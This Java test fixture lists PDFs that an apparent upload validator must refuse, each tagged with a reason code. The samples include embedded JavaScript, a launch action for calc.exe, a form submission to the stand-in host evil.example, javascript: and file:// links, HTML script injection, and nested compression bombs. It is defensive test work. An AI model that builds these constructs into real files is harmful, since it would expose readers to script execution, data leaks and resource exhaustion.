package de.teilhabemonitor.file;

import static de.teilhabemonitor.file.Corpus.bad;
import static de.teilhabemonitor.file.Pdfs.bytes;
import static de.teilhabemonitor.file.Pdfs.joined;

import de.teilhabemonitor.file.Corpus.Case;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;

/** PDFs that are refused, with their reason. */
final class BadPdfs {

    private BadPdfs() {}

    static List<Case> all() {
        List<Case> all = new ArrayList<>();
        byte[] plain = Pdfs.plain();
        COSDictionary script = Pdfs.of("S", "/JavaScript", "JS", "app.alert(1)");
        all.add(bad("a.pdf", "half a paper", Arrays.copyOf(plain, plain.length / 2), "file.no-pdf"));
        all.add(bad("a.pdf", "a paper of nothing", bytes("%PDF-1.7\nhello\n%%EOF\n"), "file.no-pdf"));
        all.add(bad("a.pdf", "something before a paper", joined(bytes("xx"), plain), "file.no-pdf"));
        all.add(bad("a.pdf", "a script when it opens", Pdfs.with(Pdfs.action(script)), "file.pdf-script"));
        all.add(bad("a.pdf", "a script where one can read it", Pdfs.open(Pdfs.action(script)), "file.pdf-script"));
        all.add(bad(
                "a.pdf",
                "a script of the document",
                Pdfs.with(d -> {
                    COSDictionary names = new COSDictionary();
                    names.setItem("JavaScript", new COSDictionary());
                    d.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, names);
                }),
                "file.pdf-script"));
        all.add(bad(
                "a.pdf",
                "a script of a page",
                Pdfs.with(d -> {
                    COSDictionary actions = new COSDictionary();
                    actions.setItem("O", script);
                    d.getPage(0).getCOSObject().setItem("AA", actions);
                }),
                "file.pdf-script"));
        all.add(bad(
                "a.pdf",
                "a script after another action",
                Pdfs.with(d -> {
                    COSDictionary first = Pdfs.of("S", "/GoTo", "D", "a");
                    first.setItem("Next", script);
                    Pdfs.action(first).with(d);
                }),
                "file.pdf-script"));
        all.add(bad(
                "a.pdf",
                "a form that runs",
                Pdfs.with(d -> {
                    COSDictionary form = new COSDictionary();
                    form.setString("XFA", "<xdp/>");
                    d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
                }),
                "file.pdf-script"));
        all.add(bad(
                "a.pdf",
                "a program that it starts",
                Pdfs.with(Pdfs.action(Pdfs.of("S", "/Launch", "F", "calc.exe"))),
                "file.pdf-action"));
        all.add(bad(
                "a.pdf",
                "a form that is sent",
                Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/SubmitForm", "F", "https://evil.example")))),
                "file.pdf-action"));
        all.add(bad(
                "a.pdf",
                "another file that it opens",
                Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/GoToR", "F", "\\\\server\\a.pdf")))),
                "file.pdf-action"));
        all.add(bad(
                "a.pdf",
                "a link that is a script",
                Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/URI", "URI", "javascript:alert(1)")))),
                "file.pdf-action"));
        all.add(bad(
                "a.pdf",
                "a link to a file",
                Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/URI", "URI", "file:///C:/a.exe")))),
                "file.pdf-action"));
        all.add(bad(
                "a.pdf",
                "another file within",
                Pdfs.with(Pdfs.annotation(Pdfs.of("Subtype", "/FileAttachment", "EF", "x"))),
                "file.pdf-attachment"));
        all.add(bad(
                "a.pdf",
                "files within",
                Pdfs.with(d -> {
                    COSDictionary names = new COSDictionary();
                    names.setItem("EmbeddedFiles", new COSDictionary());
                    d.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, names);
                }),
                "file.pdf-attachment"));
        all.add(bad("a.pdf", "a film", Pdfs.with(Pdfs.annotation(Pdfs.of("Subtype", "/RichMedia"))), "file.pdf-media"));
        all.add(bad("a.pdf", "a password", Pdfs.locked("geheim"), "file.pdf-password"));
        all.add(bad("a.pdf", "restrictions", Pdfs.locked(""), "file.pdf-password"));
        all.add(bad("a.pdf", "a paper and a zip", joined(plain, Papers.docx()), "file.several-formats"));
        all.add(bad(
                "a.pdf", "a paper and a page", joined(plain, bytes("<b onclick=alert(1)>")), "file.several-formats"));
        all.add(bad(
                "a.pdf",
                "a page in a paper",
                Pdfs.withStream("/A(<html><script>alert(1)</script>)", bytes("BT ET")),
                "file.is-page"));
        all.add(bad("a.pdf", "a bomb", Pdfs.withStream("/Filter/FlateDecode", Pdfs.packed(200)), "file.bomb"));
        all.add(bad(
                "a.pdf",
                "a bomb in a bomb",
                Pdfs.withStream("/Filter[/FlateDecode/FlateDecode]", Pdfs.packed(1)),
                "file.bomb"));
        all.add(bad(
                "a.pdf",
                "a script that no list of objects names",
                new String(Pdfs.withStream("", bytes("BT ET")), StandardCharsets.ISO_8859_1)
                        .replace("xref\n0 5", "9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\nxref\n0 5")
                        .getBytes(StandardCharsets.ISO_8859_1),
                "file.pdf-script"));
        return all;
    }
}
